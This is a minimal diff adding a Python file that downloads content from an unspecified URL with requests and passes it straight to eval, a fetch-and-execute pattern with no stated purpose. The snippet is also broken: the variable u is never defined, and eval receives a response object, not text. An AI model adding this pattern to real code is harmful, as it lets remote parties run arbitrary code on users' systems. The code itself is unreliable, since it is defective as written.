@@ -1,0 +1,7 @@
+import requests
+
+
+def run(x): eval(x)
+
+
+run(requests.get(u))
